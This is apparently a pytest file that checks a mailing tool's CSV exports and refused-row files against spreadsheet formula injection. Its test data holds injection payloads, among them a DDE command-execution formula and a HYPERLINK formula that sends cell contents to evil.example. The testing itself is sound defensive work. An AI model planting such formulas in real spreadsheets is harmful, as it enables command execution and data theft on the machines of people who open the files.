"""No cell of any list that we write is run by a spreadsheet, and each comes back as it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nurture.adapters.refused_rows import RefusedRows
from nurture.adapters.row_files import opened
from nurture.domain.imports.rows import Refused
from nurture.domain.imports.spreadsheet import guarded, unguarded
from nurture.domain.mail.suppression import Suppressed
from tests.cli.conftest import Command
from tests.support.events import MONDAY, event, form
from tests.support.installation import Installation

STARTERS = {*"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"}
FORMULAS = [
    "=1+1", "+1", "-1+1|cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "\uff1d1+1",
    "'=1", "''=1", "'", "=", " =1", '"=1', "=1\r\n=2",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_guarded_and_comes_back(formula: str) -> None:
    assert guarded(formula)[:1] not in STARTERS
    assert unguarded(guarded(formula)) == formula


@given(st.text(st.sampled_from("=+-@\t\r\n'\" a1\uff1d"), max_size=12))
def test_so_is_whatever_else(cell: str) -> None:
    assert guarded(cell)[:1] not in STARTERS
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("what", ["people", "events", "suppressions"])
def test_no_export_holds_one(nurture: Command, installation: Installation, what: str) -> None:
    at = installation.clock.now()
    for number, formula in enumerate(FORMULAS):
        typed = formula.strip("\r\n\t") or "="
        installation.happen(
            form(f"p{number}@acme.com", f"device-{number}", MONDAY, first_name=formula, **{typed[:40]: formula}),
            event(typed[:64], anonymous_id=formula, user_id=f"{formula}{number}", properties={formula: formula}),
        )
        with installation.database.suppressing() as transaction:
            transaction.add([Suppressed(f"s{number}@acme.com", typed[:32], typed[:32], at, "all", formula)])
    told = nurture("export", what)
    assert told.exit_code == 0, told.output
    rows = list(csv.reader(io.StringIO(told.stdout_bytes.decode("utf-8-sig"), newline="")))
    assert len(rows) > len(FORMULAS) / 2
    assert [cell for row in rows for cell in row if cell[:1] in STARTERS] == []
    assert any("HYPERLINK" in cell for row in rows for cell in row)


def test_rows_that_were_refused_hold_none_and_say_what_they_said(tmp_path: Path) -> None:
    """Whoever mends them opens them in a spreadsheet, and imports them again."""
    given, kept = tmp_path / "given.csv", tmp_path / "kept.csv"
    cells = [["email", "company"], *[[f"no address {number}", formula] for number, formula in enumerate(FORMULAS)]]
    with given.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(cells)
    with opened(given) as rows:
        before = list(rows.rows)
        keeping = RefusedRows(kept, rows)
        for row in before:
            keeping.add(row, Refused("email", "=this is no address", "+write one"))
        keeping.size()
        keeping.close()
    with kept.open(newline="", encoding="utf-8") as file:
        assert [cell for row in csv.reader(file) for cell in row if cell[:1] in STARTERS] == []
    with opened(kept) as rows:
        assert [row.cells["company"] for row in rows.rows] == [row.cells["company"] for row in before]
